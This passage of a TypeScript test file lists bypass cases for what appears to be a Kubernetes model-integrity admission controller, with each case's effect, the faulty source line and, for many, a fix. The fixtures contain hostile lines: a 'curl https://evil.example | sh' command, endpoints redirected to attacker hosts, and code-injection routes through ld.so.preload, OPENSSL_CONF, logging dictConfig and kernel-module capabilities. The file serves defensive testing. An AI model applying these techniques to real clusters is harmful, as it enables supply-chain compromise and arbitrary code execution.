      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
    }),
    'the HF cache (~/.cache/huggingface) lives on the PVC: pre-placed snapshots load under the pinned name',
    'src/workloads/servers.ts:90-111 (HOME is not a cache variable)',
  ),
  hole(
    'H51',
    'cache-location',
    'HF_HOME=$(X) from a ConfigMap points at a PVC',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          env: [
            { name: 'X', valueFrom: { configMapKeyRef: { name: 'c', key: 'k' } } },
            { name: 'HF_HOME', value: '$(X)' },
          ],
          volumeMounts: [{ name: 'h', mountPath: '/data' }],
        },
      ],
      volumes: [{ name: 'h', persistentVolumeClaim: { claimName: 'home' } }],
    }),
    'the kubelet sets HF_HOME=/data: the cache lives on the PVC, as in H49',
    'src/workloads/env.ts:83 + src/workloads/container.ts:529 (a cache value that is not an absolute path is ignored)',
  ),

  // ── update-relaxation ──────────────────────────────────────────────────────────────────────────────
  hole(
    'H52',
    'update-relaxation',
    'UPDATE of an annotation that a fieldRef turns into HF_ENDPOINT is "unchanged"',
    endpointPod('https://evil.example'),
    'relaxed to a warning; the next container restart reads the new endpoint (the kubelet recomputes fieldRef env)',
    "src/policy/decide.ts:119-128 (the fingerprint omits the containers' unreadable inputs and the metadata fieldRefs read)",
    { operation: 'UPDATE', oldObject: endpointPod('https://huggingface.co') },
  ),
  hole(
    'H53',
    'update-relaxation',
    'UPDATE of a label that a fieldRef turns into VLLM_ALLOW_RUNTIME_LORA_UPDATING',
    loraLabelPod('true'),
    'runtime LoRA loading after the next restart',
    'as H52',
    { operation: 'UPDATE', oldObject: loraLabelPod('false') },
  ),

  // ── object-level: what KServe will run is not what modelgate read on the object ────────────────────
  // These matter where the pods themselves are not checked (policy match.kinds narrowed to
  // InferenceService), and for `modelgate check` and the audit, which judge the object.
  hole(
    'H54',
    'object-level',
    'InferenceService predictor.model carries container fields (args)',
    isvc({
      predictor: {
        model: {
          modelFormat: { name: 'huggingface' },
          storageUri: `hf://example-org/llama:${C}`,
          args: ['--model_id=evil-org/x'],
        },
      },
    }),
    'KServe merges model.args into the runtime container: it serves evil-org/x',
    'src/workloads/extract.ts:304-325 (reads only storageUri/storage of predictor.model and the framework specs, which embed a whole container: image, command, args, env, envFrom, volumeMounts)',
  ),
  hole(
    'H55',
    'object-level',
    'InferenceService predictor.huggingface with its own image and env',
    isvc({
      predictor: {
        huggingface: {
          storageUri: `hf://example-org/llama:${C}`,
          image: 'evil.example/anything:latest',
          env: [{ name: 'HF_ENDPOINT', value: 'https://evil.example' }],
        },
      },
    }),
    'any image and any environment for the server',
    'as H54',
  ),
  hole(
    'H56',
    'object-level',
    'InferenceService predictor.workerSpec (multi-node) containers are never read',
    isvc({
      predictor: {
        model: { modelFormat: { name: 'huggingface' }, storageUri: `hf://example-org/llama:${C}` },
        workerSpec: {
          containers: [
            {
              name: 'worker-container',
              image: 'evil.example/x:latest',
              command: ['sh', '-c', 'curl https://evil.example | sh'],
            },
          ],
        },
      },
    }),
    'an unaccounted container in every worker pod',
    'src/workloads/pod.ts:30-38 (components only; workerSpec is a pod spec of its own)',
  ),
  hole(
    'H57',
    'object-level',
    'InferenceService on a ServingRuntime the namespace wrote',
    isvc({
      predictor: {
        model: {
          modelFormat: { name: 'huggingface' },
          runtime: 'my-runtime',
          storageUri: `hf://example-org/llama:${C}`,
        },
      },
    }),
    'the ServingRuntime (namespaced, editable by the deployer; also auto-selected by modelFormat) defines the container',
    'src/workloads/extract.ts:414-422 (a component without containers is taken as fully accounted)',
  ),
  hole(
    'H58',
    'object-level',
    "InferenceService transformer's PVC has the same name as the predictor's image volume",
    isvc({
      predictor: {
        containers: [
          { name: 'kserve-container', image: VLLM, args: ['--model', '/models/m'], volumeMounts: ro },
        ],
        volumes: [modelVol],
      },
      transformer: {
        containers: [{ name: 't', image: VLLM, args: ['--model', '/models/m'], volumeMounts: ro }],
        volumes: [{ name: 'm', persistentVolumeClaim: { claimName: 'scratch' } }],
      },
    }),
    "the transformer's PVC model is judged as the predictor's digest-pinned image",
    "src/workloads/extract.ts:172-174,276 (forVolume matches by volume name across all pod specs); also the annotation's declared volumes (extract.ts:424-425)",
  ),

  hole(
    'H61',
    'object-level',
    'high-sensitivity InferenceService: predictor on SEV-SNP, its multi-node workers anywhere',
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'i', namespace: 'secure' },
      spec: {
        predictor: {
          runtimeClassName: 'kata-qemu-snp',
          nodeSelector: { 'feature.node.kubernetes.io/cpu-security.sev.snp.enabled': 'true' },
          containers: [
            {
              name: 'kserve-container',
              image: VLLM,
              args: ['--model', '/models/m', '--tensor-parallel-size', '8'],
              volumeMounts: ro,
            },
          ],
          volumes: [modelVol],
          workerSpec: {
            containers: [
              {
                name: 'worker-container',
                image: VLLM,
                command: ['ray', 'start', '--block'],
                volumeMounts: ro,
              },
            ],
            volumes: [modelVol],
          },
        },
      },
    },
    'the worker pods hold shards of a high-sensitivity model on ordinary nodes (no runtime class, no TEE node labels)',
    'as H56 (src/workloads/pod.ts:30-38): confidential placement is checked per pod spec found, and workerSpec is not found',
  ),

  hole(
    'H62',
    'object-level',
    "a pod template's fieldRef metadata.name is resolved to the controller's own name",
    {
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'llm', namespace: 'prod' },
      spec: {
        serviceName: 'llm',
        selector: { matchLabels: { app: 'llm' } },
        template: {
          metadata: { labels: { app: 'llm' } },
          spec: {
            containers: [
              {
                name: 'server',
                image: VLLM,
                args: ['--model', '/models/$(POD_NAME)'],
                env: [{ name: 'POD_NAME', valueFrom: { fieldRef: { fieldPath: 'metadata.name' } } }],
                volumeMounts: [
                  { name: 'm', mountPath: '/models/llm', readOnly: true },
                  { name: 'w', mountPath: '/models', readOnly: true },
                ],
              },
            ],
            volumes: [modelVol, scratch],
          },
        },
      },
    },
    'modelgate reads /models/llm (the image volume); the pods are llm-0, llm-1, ...: /models/llm-0 is on the PVC',
    "src/workloads/env.ts:47-49 with src/workloads/extract.ts:379 (a template's pod meta inherits the object's name; labels and annotations of the object are merged in too, although pods get only the template's)",
  ),

  // ── source-provenance: download clients configured wholesale from the environment ──────────────────
  hole(
    'H99',
    'source-provenance',
    'KServe storage initializer with STORAGE_CONFIG (a storage configuration with another endpoint)',
    downloaded({
      name: 'storage-initializer',
      image: SI,
      args: ['s3://models-prod/llama', '/mnt/models'],
      env: [
        {
          name: 'STORAGE_CONFIG',
          value: '{"type": "s3", "bucket": "models-prod", "endpoint_url": "https://s3.attacker.example"}',
        },
      ],
    }),
    "KServe's storage initializer reads the whole storage configuration — type, bucket, endpoint_url — from STORAGE_CONFIG (what a storage Secret injects) and STORAGE_OVERRIDE_CONFIG: the allowed bucket's name now downloads the deployer's files, whose digest they declared (prod signs nothing), and the verifier agrees. H17 with the JSON form of the endpoint",
    "src/workloads/servers.ts:105-124 (DOWNLOAD_ENV lists single endpoint variables; KServe's STORAGE_CONFIG and STORAGE_OVERRIDE_CONFIG are not among them). Class: every variable that configures the download client's endpoint, remote or transport is a redirect for unbound models",
  ),
  hole(
    'H100',
    'source-provenance',
    "Seldon's rclone initializer with RCLONE_CONFIG_S3_ENDPOINT",
    downloaded({
      name: 'rclone-initializer',
      image: img('seldonio/rclone-storage-initializer'),
      args: ['s3://models-prod/llama', '/mnt/models'],
      env: [{ name: 'RCLONE_CONFIG_S3_ENDPOINT', value: 'https://s3.attacker.example' }],
    }),
    'rclone configures a remote entirely from RCLONE_CONFIG_<REMOTE>_* variables (type, endpoint, url): the remote "s3" now points at the deployer\'s server',
    'as H99 (src/workloads/servers.ts:105-124: no prefix-named download settings)',
  ),
  hole(
    'H101',
    'source-provenance',
    'KServe storage initializer with S3_VERIFY_SSL=0 (TLS not verified)',
    downloaded({
      name: 'storage-initializer',
      image: SI,
      args: ['s3://models-prod/llama', '/mnt/models'],
      env: [{ name: 'S3_VERIFY_SSL', value: '0' }],
    }),
    "with certificate verification off (or S3_USE_HTTPS=0, PYTHONHTTPSVERIFY=0), anyone on the network path — a pod on the node with NET_ADMIN and hostNetwork, a compromised proxy — serves the allowed bucket's bytes",
    'as H99 (src/workloads/servers.ts:105-124; S3_USE_HTTPS was read only to qualify an explicit S3_ENDPOINT, downloads.ts:13-18)',
  ),
  // ── cross-pod-integrity ────────────────────────────────────────────────────────────────────────────
  hole(
    'H59',
    'cross-pod-integrity',
    'a pod with no verified volume may mount /var/lib/kubelet and run privileged',
    pod('prod', {
      containers: [
        { name: 'server', image: VLLM, command: ['vllm', 'serve', 'example-org/llama', '--revision', C] },
        {
          name: 'istio-proxy',
          image: ISTIO,
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'k', mountPath: '/host' }],
        },
      ],
      volumes: [{ name: 'k', hostPath: { path: '/var/lib/kubelet' } }],
    }),
    "rewrites other pods' verified volumes on the node after their verifier ran",
    'src/policy/checks/integrity.ts:51 (host paths into the kubelet/runtime and privilege are judged only in pods that have a verified volume)',
  ),
  // ══ Round 3: found after H01-H62 were fixed ═══════════════════════════════════════════════════
  // ── exec-identity: a recognised program in an image nobody vouched for ──────────────────────────────
  hole(
    'H63',
    'exec-identity',
    'any image whose command is "vllm serve" is read as vLLM',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('docker.io/attacker/inference', 'e'),
          command: ['vllm', 'serve', '/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'the deployer builds an image whose /usr/local/bin/vllm downloads and serves any model; modelgate reads "vllm serve /models/m" and admits it as vLLM serving the verified volume. Same with tritonserver, python -m vllm..., initializer-entrypoint (a "storage initializer" that writes what it likes before the verifier) and huggingface-cli in any image; and with an UPDATE that swaps a running pod\'s server image',
    "src/workloads/servers.ts:740-745 (recognise: a program name selects a grammar whatever the image; only IMAGES-recognition checks the repository). Class: what a recognised server runs is the image's code, so the image must be one the platform vouches for. Fix: a grammar applies only in an image known to ship that server (the IMAGES table by repository, or a ClusterModelPolicy list of server images, per policy like nonModelImages); otherwise a `container` violation",
  ),
  hole(
    'H63b',
    'exec-identity',
    'tritonserver in a general-purpose Python image',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('docker.io/library/python', 'e'),
          command: ['tritonserver', '--model-repository=/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'a "tritonserver" the deployer put in a public Python image (any script on its PATH) is read as Triton serving the verified repository',
    'as H63 (src/workloads/servers.ts recognise: the program name alone selected the grammar)',
  ),
  hole(
    'H63c',
    'exec-identity',
    "python -m vllm.entrypoints.openai.api_server in NVIDIA's PyTorch image (whose entrypoint runs its args)",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('nvcr.io/nvidia/pytorch', 'e'),
          args: ['python', '-m', 'vllm.entrypoints.openai.api_server', '--model', '/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    "an official image, but not vLLM's: the vllm package the pod installs or shadows decides what is served",
    'as H63 (src/workloads/servers.ts recognise: a module name selected the grammar whatever the image)',
  ),
  hole(
    'H63d',
    'exec-identity',
    'a "huggingface-cli download" in an attacker image writes a second volume the server reads',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'fetch',
            image: img('docker.io/attacker/tools', 'e'),
            command: [
              'huggingface-cli',
              'download',
              'example-org/llama',
              '--revision',
              C,
              '--local-dir',
              '/mnt/models',
            ],
            volumeMounts: [
              { name: 'k', mountPath: '/mnt/models' },
              { name: 'tpl', mountPath: '/templates' },
            ],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: HFS,
            args: ['--model_dir=/mnt/models', '--chat-template=/templates/chat.jinja'],
            volumeMounts: [
              { name: 'k', mountPath: '/mnt/models', readOnly: true },
              { name: 'tpl', mountPath: '/templates', readOnly: true },
            ],
          },
        ],
        volumes: [
          { name: 'k', emptyDir: {} },
          { name: 'tpl', emptyDir: {} },
        ],
      },
      annotate([{ name: 'm', volume: 'k', digest: SIGNED }]),
    ),
    'the verifier checks the download destination; the attacker image also writes the chat template the server renders (its own code, not the CLI, decides what it writes), which no one verifies',
    "src/policy/checks/containers.ts:51 (a downloader's destinations were what its arguments say, whatever its image)",
  ),
  hole(
    'H63e',
    'exec-identity',
    'an image approved as vLLM runs tritonserver',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('registry.example.com/mirror/vllm/vllm-openai', 'e'),
          command: ['tritonserver', '--model-repository=/models/m'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    'an approval says which server an image ships; a "tritonserver" in the vLLM mirror is whatever the image put there',
    'src/policy/checks/containers.ts:64 (the approval is per server: spec.serverImages[].servers)',
  ),
  hole(
    'H64',
    'exec-identity',
    'a ConfigMap mounted over /usr/local/bin replaces the "vllm" the image ships',
    vllmPod(
      'prod',
      {
        command: ['vllm', 'serve', '/models/m'],
        volumeMounts: [...ro, { name: 'cfg', mountPath: '/usr/local/bin', readOnly: true }],
      },
      [cfgVol],
    ),
    'official pinned vLLM image; "vllm" is found through the image\'s own PATH, in a directory the pod replaced with a ConfigMap (any script). H02 covers a PATH the pod sets, not a mount over the image\'s PATH directories (/usr/bin, /usr/local/bin, /bin, ...) or over the program file itself (subPath) — stealthiest at /usr/local/nvidia/bin, first on the PATH of NVIDIA-based images (vLLM, Triton, TGI) and empty until a GPU driver mount fills it',
    "src/workloads/container.ts:361-371 (programOrigin checks PATH only when the pod sets it; a bare name resolved through the image's default PATH is never looked up in the mounts). Fix: resolve a bare program through the image's PATH (or the standard one when unknown) and refuse when any candidate directory or file is at or under a mount",
  ),

  // ── signature-scope: the server reads files inside the verified volume that the signature does not cover
  hole(
    'H65',
    'signature-scope',
    'llama.cpp loads a GGUF from an ignored path (.git/, a signed ignore_paths entry) of the verified PVC',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: LLAMA,
            args: ['-m', '/models/m/ignore-me/evil.gguf'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } }],
      },
      annotate([
        {
          name: 'llama',
          volume: 'w',
          digest: SIGNED,
          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
        },
      ]),
    ),
    'the signature verifies (the PVC holds the signed files) and the verifier passes: files under ignore_paths of the signed statement ("ignore-me", ".github", ...), under .git/ (model_signing always ignores it) and the bundle file are excused, extra files there included. The server is pointed at one of them: an unsigned model served under a valid signature',
    'src/workloads/extract.ts:290-300 (a model path only has to be inside the declared volume/subPath) with src/signing/verify-model.ts:217-226 (ignore paths excuse unlisted files). Class: a signature counts for the files it lists, not for a directory. Fix: refuse a server path under .git*, the bundle path or (for ConfigMap/inline bundles, known at admission) a statement ignore path; pass every server path to the verifier so it refuses one the manifest does not cover',
  ),

  hole(
    'H65b',
    'signature-scope',
    'vLLM renders a chat template from a path the signature ignores, named by a flag that names no model',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            command: ['vllm', 'serve', '/models/m', '--chat-template', '/models/m/ignore-me/chat.jinja'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } }],
      },
      annotate([
        {
          name: 'llama',
          volume: 'w',
          digest: SIGNED,
          signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
        },
      ]),
    ),
    'the model verifies; the chat template (Jinja that decides every prompt the model sees) is an unsigned file in an ignored folder of the same volume',
    'src/workloads/extract.ts:300 (only values a grammar reads as models were checked against the signature). Class: every path a container names inside a signed model, whatever flag or variable carries it, must be covered by the signature',
  ),

  // ── code-injection: more ways a pinned official server runs code the pod supplies ───────────────────
  hole(
    'H66',
    'code-injection',
    '/etc/ld.so.preload mounted from a ConfigMap (subPath)',
    vllmPod(
      'prod',
      {
        command: ['vllm', 'serve', '/models/m'],
        volumeMounts: [
          ...ro,
          { name: 'cfg', mountPath: '/etc/ld.so.preload', subPath: 'preload', readOnly: true },
          cfgMount,
        ],
      },
      [cfgVol],
    ),
    "the dynamic loader preloads /cfg/evil.so (named in the mounted file) into every program of the container: LD_PRELOAD without the variable. Same class: a mount over the image's Python (site-packages/evil.pth, vllm/__init__.py, /usr/bin/python3), /etc/ld.so.conf.d, /etc/profile.d, and /usr/local/nvidia/lib64 (on the image's own LD_LIBRARY_PATH in NVIDIA-based images: a libcuda.so.1 there is what torch dlopens)",
    "src/workloads/overlays.ts:37-50 (only mounts at or below a model path are judged; a mount that replaces a file or directory of the image is not). Fix: refuse mounts over the image's code and loader configuration (/etc/ld.so.*, /usr, /lib*, /bin, /sbin, /opt, interpreter site directories) — or, fail-closed, allow mounts only at paths that are not ancestors of, equal to, or inside those",
  ),
  hole(
    'H67',
    'code-injection',
    'HOME on a ConfigMap: Python runs the .pth files of ~/.local (bound model)',
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m'],
        env: [{ name: 'HOME', value: '/cfg' }],
      }),
      [cfgVol],
    ),
    'site.py adds $HOME/.local/lib/python3.X/site-packages (user site, on for root outside a venv) and executes its .pth lines: any code, then any model. H50 made HOME a cache location, which matters only for unbound models; this model is a digest-pinned image volume, so nothing is refused. Same with a volume mounted at /root/.local or /root',
    'src/workloads/code-env.ts:11-31 (HOME is not a code path) and src/workloads/container.ts:572 (HOME is read only as a cache, relevance "unbound")',
  ),
  hole(
    'H68',
    'code-injection',
    'OPENSSL_CONF loads an OpenSSL provider from a ConfigMap',
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m'],
        env: [{ name: 'OPENSSL_CONF', value: '/cfg/openssl.cnf' }],
      }),
      [cfgVol],
    ),
    "Python's ssl module initialises OpenSSL, which reads OPENSSL_CONF; a [provider_sect] with module = /cfg/evil.so and activate = 1 dlopens it. Same list gap: OPENSSL_MODULES, NCCL_TUNER_PLUGIN / NCCL_NET_PLUGIN (paths NCCL dlopens), VLLM_CACHE_ROOT on a PVC (torch.compile artefacts vLLM loads and runs)",
    'src/workloads/code-env.ts:11-41 (a denylist of code-loading variables). Class: a variable whose value names a file on a pod-supplied volume. Fix: beyond the list, refuse any variable (other than those a grammar reads as models or caches) whose value is, or lists, a path on a volume other than a verified model volume',
  ),

  // ── cache-location: the image's own cache ───────────────────────────────────────────────────────────
  hole(
    'H69',
    'cache-location',
    "TGI with a PVC at /data, the image's HF_HOME",
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: TGI,
          args: ['--model-id', 'example-org/llama', '--revision', C],
          volumeMounts: [{ name: 'w', mountPath: '/data' }],
        },
      ],
      volumes: [scratch],
    }),
    'the TGI image sets HF_HOME=/data and its docs mount a volume there; a PVC pre-seeded with models--example-org--llama/snapshots/<commit>/ is loaded without a download. Setting HF_HOME=/data explicitly is refused; leaving it to the image is admitted',
    'src/workloads/container.ts:590 (the default cache is $HOME/.cache/huggingface/hub with HOME=/root, whatever the image sets). Fix: per recognised image, the cache its image environment sets (TGI: /data), and for unknown images any persistent mount is a potential cache when the model is unbound',
  ),

  // ── source-provenance: redirects the variable list does not know ───────────────────────────────────
  hole(
    'H70',
    'source-provenance',
    'hostAliases send huggingface.co to the deployer, whose CA the pod trusts',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
          env: [{ name: 'REQUESTS_CA_BUNDLE', value: '/cfg/ca.pem' }],
          volumeMounts: [cfgMount],
        },
      ],
      volumes: [cfgVol],
      hostAliases: [{ ip: '10.1.2.3', hostnames: ['huggingface.co', 'cdn-lfs.huggingface.co'] }],
    }),
    'the hub download (unbound: no signature, no verifier) goes to 10.1.2.3, which serves any bytes for the pinned commit under a certificate the pod trusts: the effect of HF_ENDPOINT, which is refused. Also SSL_CERT_FILE/SSL_CERT_DIR/CURL_CA_BUNDLE/AWS_CA_BUNDLE, a ConfigMap over certifi/cacert.pem, dnsPolicy None + dnsConfig.nameservers, HTTPS_PROXY',
    'src/workloads/servers.ts:105-124 (DOWNLOAD_ENV lists endpoint variables only; pod-level name resolution — hostAliases, dnsConfig — and TLS trust are never read). Fix: for unbound models, treat hostAliases/custom DNS naming a download host, and any CA-trust override (variable or mount), as a redirect',
  ),
  hole(
    'H71',
    'source-provenance',
    'storage initializer with AWS_CONFIG_FILE (endpoint_url in the file)',
    downloaded({
      name: 'storage-initializer',
      image: SI,
      args: ['s3://models-prod/llama', '/mnt/models'],
      env: [{ name: 'AWS_CONFIG_FILE', value: '/cfg/config' }],
      volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }, cfgMount],
    }),
    "boto3 reads endpoint_url (and services.s3.endpoint_url) from the config file: s3://models-prod/llama comes from the deployer's server, with an attacker-declared digest the verifier happily confirms (H17 with a file instead of a variable). Also a volume at /root/.aws, RCLONE_CONFIG / RCLONE_CONFIG_<REMOTE>_ENDPOINT / RCLONE_S3_ENDPOINT for Seldon's rclone initializer, BOTO_CONFIG for gsutil",
    "src/workloads/servers.ts:105-124 (only endpoint variables are redirects; client configuration files and rclone's variable-per-option scheme are not read). Fix: the downloaders' configuration files (AWS_CONFIG_FILE, ~/.aws, RCLONE_CONFIG*, BOTO_CONFIG, ~/.config/rclone) and RCLONE_* option variables are redirects (unbound) or unreadable",
  ),

  // ── writer-after-verification ───────────────────────────────────────────────────────────────────────
  hole(
    'H72',
    'writer-after-verification',
    'an approved sidecar mounts the verified emptyDir at a relative mountPath, writable',
    (() => {
      const o = downloaded({
        name: 'storage-initializer',
        image: SI,
        args: ['s3://models-prod/llama', '/mnt/models'],
      }) as { spec: { containers: Obj[] } };
      o.spec.containers.push({
        name: 'istio-proxy',
        image: ISTIO,
        volumeMounts: [{ name: 'k', mountPath: 'k' }],
      });
      return o as Obj;
    })(),
    'the kubelet makes a relative mountPath absolute (/k); the sidecar rewrites the verified files after the verifier. The approved image is trusted to load no model, not to leave verified files alone ("still subject to integrity")',
    'src/workloads/pod.ts:163-164 (mountsOf drops a mountPath that does not normalise, so integrity never sees the mount) with src/workloads/container.ts:136 (overlays refuses it only as an unreadable input, which an approved container does not report). Fix: mountsOf keeps every mount, reading a relative path as the kubelet does ("/" + path) and one with ".." as covering everything; integrity judges all containers on it',
  ),

  // ── cross-pod-integrity: host paths the denylist does not know ─────────────────────────────────────
  hole(
    'H73',
    'cross-pod-integrity',
    'hostPath /etc/kubernetes/manifests: a static pod the kubelet runs without admission',
    pod('prod', {
      containers: [
        { name: 'server', image: VLLM, command: ['vllm', 'serve', '/models/m'], volumeMounts: ro },
        {
          name: 'istio-proxy',
          image: ISTIO,
          args: ['proxy', 'sidecar'],
          volumeMounts: [{ name: 'h', mountPath: '/etc/istio/manifests' }],
        },
      ],
      volumes: [modelVol, { name: 'h', hostPath: { path: '/etc/kubernetes/manifests' } }],
    }),
    "the approved sidecar (a shell image) writes a pod manifest there; the kubelet runs it with no webhook in the way (mirror pods cannot be refused into not running): a privileged pod that rewrites every verified volume on the node, or serves any model. Same class: /var/lib/rancher (k3s containerd), /var/snap/microk8s, /var/lib/k0s, /opt/local-path-provisioner and /mnt/disks (other pods' PVC data), /etc (kubelet and containerd configuration)",
    'src/policy/checks/integrity.ts:18-34 (PROTECTED_HOST_PATHS is a denylist of a few standard runtime paths). Fix: in a selected namespace refuse every writable hostPath (and readOnly ones that reach runtime or kubelet state), or allow only paths a ClusterModelPolicy lists',
  ),

  // ── grammar-gaps ────────────────────────────────────────────────────────────────────────────────────
  hole(
    'H74',
    'grammar-gaps',
    "KServe's Hugging Face server takes vLLM's engine flags: --tokenizer",
    pod('prod', {
      containers: [
        {
          name: 'kserve-container',
          image: HFS,
          args: ['--model_dir=/models/m', '--model_name=llama', '--tokenizer', 'evil-org/tok'],
          volumeMounts: ro,
        },
      ],
      volumes: [modelVol],
    }),
    "huggingfaceserver adds vLLM's argument parser (maybe_add_vllm_cli_parser) and the vLLM backend loads --tokenizer from the hub (unpinned, unsourced); modelgate reads it as an abbreviation of --tokenizer_revision only",
    "src/workloads/servers.ts:449 (KSERVE_PYTHON lacks the vLLM engine flags, so an exact vLLM flag is taken for an abbreviation of a KServe one). Fix: read huggingfaceserver with the union of its own and vLLM's grammar (every candidate must pass)",
  ),

  // ── object-level ────────────────────────────────────────────────────────────────────────────────────
  hole(
    'H75',
    'object-level',
    'LLMInferenceService router.scheduler.template is a pod spec that is never read',
    {
      apiVersion: 'serving.kserve.io/v1alpha1',
      kind: 'LLMInferenceService',
      metadata: { name: 'l', namespace: 'prod' },
      spec: {
        model: { uri: `oci://${MODEL_IMG}` },
        router: {
          scheduler: {
            template: {
              containers: [
                {
                  name: 'main',
                  image: img('docker.io/library/python'),
                  command: ['python', '-c', 'import x'],
                },
              ],
            },
          },
        },
      },
    },
    'the object is admitted with an unapproved python container running a script; the policy decision on the object (and the audit report) says nothing of it. The pods are still checked when created (unless match.kinds leaves Pods out)',
    'src/workloads/pod.ts:62-73 (podTemplates lists template, worker, prefill.template, prefill.worker; router.scheduler.template is missing; spec.baseRefs pulls templates from LLMInferenceServiceConfig like H57). Fix: every PodSpec-typed field of the kind (generate the list from the CRD schema), and treat baseRefs as H57 (judged in the Pods)',
  ),
  hole(
    'H76',
    'cross-pod-integrity',
    'an approved sidecar adds CAP_SYS_MODULE',
    pod('prod', {
      containers: [
        { name: 'server', image: VLLM, command: ['vllm', 'serve', '/models/m'], volumeMounts: ro },
        { name: 'istio-proxy', image: ISTIO, securityContext: { capabilities: { add: ['SYS_MODULE'] } } },
      ],
      volumes: [modelVol],
    }),
    'init_module(2) loads a kernel module (a .ko from a ConfigMap, or the image): kernel code on the node, which rewrites every verified volume and page cache there. Same for SYS_BOOT (kexec), SYS_TIME-style node-wide capabilities; a denylist cannot keep up',
    'src/workloads/container.ts:86-94 (DANGEROUS_CAPS is a denylist: SYS_ADMIN, ALL, SYS_PTRACE, DAC_OVERRIDE, DAC_READ_SEARCH, SYS_RAWIO, MKNOD). Fix: an allowlist (the runtime defaults Pod Security "baseline" admits, plus NET_BIND_SERVICE, IPC_LOCK, SYS_NICE, NET_ADMIN/NET_RAW for mesh init containers); anything else is an integrity violation',
  ),
  hole(
    'H77',
    'code-injection',
    "VLLM_LOGGING_CONFIG_PATH: Python's dictConfig instantiates what the file names",
    vllmPod(
      'prod',
      withCfg({
        command: ['vllm', 'serve', '/models/m'],
        env: [{ name: 'VLLM_LOGGING_CONFIG_PATH', value: '/cfg/logging.json' }],
      }),
      [cfgVol],
    ),
    'vLLM passes the JSON file to logging.config.dictConfig, whose "()" key imports and calls any callable with the given keywords ({"()": "subprocess.Popen", "args": [...]}): code at start-up, no native library needed. The flag form (--log-config-file) is refused by MODEL_ISH; the variable is not. Same shape: any server option variable whose value is a config file (TGI/uvicorn/gunicorn log configs, HF_HUB_* files)',
    'src/workloads/code-env.ts:11-41 (the list of code-loading variables) and src/workloads/servers.ts (the vLLM grammar reads flags, not VLLM_* variables). Fix: as H68 — a variable naming a file on a pod-supplied volume is unreadable unless a grammar reads it as a model or cache',
  ),
  hole(
    'H78',
    'code-injection',
    'a PVC at the default HF_MODULES_CACHE (~/.cache/huggingface/modules) with --trust-remote-code',
    vllmPod(
      'prod',
      {
        command: ['vllm', 'serve', '/models/m', '--trust-remote-code'],
        volumeMounts: [...ro, { name: 'w', mountPath: '/root/.cache/huggingface/modules' }],
      },
      [scratch],
    ),
    'the verified model ships custom code (auto_map); transformers puts HF_MODULES_CACHE on sys.path and imports the package transformers_modules from it, so a pre-seeded transformers_modules/__init__.py on the PVC runs first. HF_MODULES_CACHE=/w is refused; the default location under HOME is not. Same class: ~/.triton/cache, ~/.cache/vllm (torch.compile), ~/.cache/torch/inductor on a PVC — the defaults of the variables code-env.ts lists',
    "src/workloads/code-env.ts:11-31 (only explicitly set variables are judged; their default locations under HOME are not) with src/workloads/container.ts:600-601 (the cache-named mount pattern covers .cache, .cache/huggingface and .cache/huggingface/hub only). Fix: derive each code-loading variable's default from HOME/XDG_CACHE_HOME/HF_HOME and judge mounts at, above or below it like an explicit value",
  ),
  {
    ...hole(
      'H79',
      'object-level',
      'request.kind Pod with an object whose kind is not one modelgate knows',
      { ...vllmPod('prod', { command: ['vllm', 'serve', 'evil-org/x'] }), kind: 'pod' },
      'the request-kind check (docs: a `request` violation when "its kind differs from its object\'s") runs only after the object was recognised, so an object of any unknown kind — or none — sent as a Pod review is admitted as "not a kind modelgate checks". Low risk behind a real API server, which serialises the object it stores, but it is the documented guard and a webhook reachable by other callers (or a future kind alias) relies on it',
      "src/policy/decide.ts:162 (return allow('not a kind modelgate checks') before the request.kind comparison). Fix: compare request.kind with the object's apiVersion/kind first, and refuse a supported request kind whose object cannot be read as it",
    ),
    requestKind: { group: '', version: 'v1', kind: 'Pod' },
  },
  hole(
    'H80',
    'object-level',
    "InferenceService high sensitivity set through the component's labels (KServe's pod labels) is not seen",
    {
      apiVersion: 'serving.kserve.io/v1beta1',
      kind: 'InferenceService',
      metadata: { name: 'i', namespace: 'tee' },
      spec: {
        predictor: {
          labels: { 'modelgate.io/sensitivity': 'high' },
          model: { modelFormat: { name: 'sklearn' }, storageUri: `oci://${MODEL_IMG}` },
        },
      },
    },
    "KServe copies spec.predictor.labels/annotations onto the predictor's pods, so the pods are high-sensitivity; the object is judged low and admitted without a TEE (the audit reports it compliant), and only its pods are refused later. modelgate reads comp.metadata, a field KServe components do not have, so component labels also never reach the sensitivity floor or the downward-API resolution of the pods' labels",
